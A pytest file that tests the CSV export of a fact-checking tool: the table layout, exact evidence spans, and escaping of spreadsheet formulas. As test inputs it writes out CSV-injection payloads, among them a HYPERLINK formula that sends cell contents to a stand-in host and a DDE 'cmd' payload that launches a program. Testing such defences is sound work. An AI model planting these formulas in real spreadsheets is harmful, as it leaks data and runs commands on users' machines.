"""CSV tables a spreadsheet opens cleanly: every row's evidence is the exact span, and no cell runs as a formula."""

from __future__ import annotations

import copy
import csv
from pathlib import Path
from typing import Any

import pytest

from crossfact.export.csv import neutralise, render_csv, write_csv
from crossfact.export.records import records_of


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_csv_writes_five_tables_with_a_bom(seeds_report: Any, tmp_path: Path) -> None:
    written = write_csv(records_of(seeds_report), tmp_path)
    assert [path.name for path in written] == [
        "claims.csv",
        "conflicts.csv",
        "findings.csv",
        "articles.csv",
        "reuse.csv",
    ]
    for path in written:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path


def test_csv_every_evidence_cell_is_the_exact_article_slice(seeds_report: Any, tmp_path: Path) -> None:
    records = records_of(seeds_report)
    write_csv(records, tmp_path)
    texts = {article["id"]: article["text"] for article in records["articles"]}
    claims = _read(tmp_path / "claims.csv")
    findings = _read(tmp_path / "findings.csv")
    assert len(claims) == sum(len(claim["facts"]) for claim in records["claims"])
    assert len(findings) == sum(len(finding["evidence"]) for finding in records["findings"])
    for row in claims + findings:
        start, end = int(row["start"]), int(row["end"])
        assert neutralise(texts[row["article"]][start:end]) == row["text"]
    # The row of a claim's own statement comes first, so a filter on the claim id opens on it.
    first = {}
    for row in claims:
        first.setdefault(row["claim"], row)
    for claim in records["claims"]:
        assert claim["statement"]["text"] in first[claim["id"]]["text"]


def test_csv_reuse_rows_carry_both_passages(seeds_report: Any, tmp_path: Path) -> None:
    records = records_of(seeds_report)
    write_csv(records, tmp_path)
    (link,) = records["reuse"]
    rows = _read(tmp_path / "reuse.csv")
    assert len(rows) == len(link["passages"])
    assert rows[0]["a_text"] == link["passages"][0]["a"]["text"]
    assert "Sanai Takwati" in rows[0]["b_text"]
    assert "shared rare name 'Sanai Takwati'" in rows[0]["why"]


def test_csv_conflict_sides_show_both_values_with_their_words(demo_report: Any, tmp_path: Path) -> None:
    write_csv(records_of(demo_report), tmp_path)
    rows = _read(tmp_path / "conflicts.csv")
    assert [(row["value"], row["text"], row["outlet"]) for row in rows] == [
        ("4.2 billion EUR", "€4.2 billion", "North Sea Wire"),
        ("2.4 billion EUR", "€2.4 billion", "Polder Review"),
    ]
    assert rows[0]["number"] == "4200000000.0"


def test_csv_articles_table_names_families_and_counts(demo_report: Any, tmp_path: Path) -> None:
    write_csv(records_of(demo_report), tmp_path)
    rows = {row["outlet"]: row for row in _read(tmp_path / "articles.csv")}
    assert rows["Harbour Herald"]["family"] == rows["North Sea Wire"]["family"]
    assert rows["North Sea Wire"]["family_size"] == "4"
    assert rows["Polder Review"]["published"] == "2025-03-14"
    assert int(rows["Polder Review"]["findings"]) >= 1


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("The council approved the budget.", "The council approved the budget."),
        (-3, -3),
        (-0.5, -0.5),
        (True, "true"),
    ],
)
def test_csv_neutralise_formula_text_but_not_numbers(cell: Any, written: Any) -> None:
    assert neutralise(cell) == written


def test_csv_planted_formula_title_is_inert_when_read_back(seeds_report: Any, tmp_path: Path) -> None:
    records = copy.deepcopy(records_of(seeds_report))
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Click for the source")'
    records["articles"][0]["title"] = planted
    records["articles"][0]["source"] = "@cmd|' /C calc'!A0"
    write_csv(records, tmp_path)
    row = _read(tmp_path / "articles.csv")[0]
    assert row["title"] == "'" + planted
    assert row["outlet"] == "'@cmd|' /C calc'!A0"
    assert row["characters"] == str(len(records["articles"][0]["text"]))  # a number stays a number


def test_csv_quotes_cells_holding_separators_and_newlines() -> None:
    text = render_csv(("a", "b"), [['He said "yes", then left.\nLater: no', 3]])
    assert text == '\ufeffa,b\r\n"He said ""yes"", then left.\nLater: no",3\r\n'
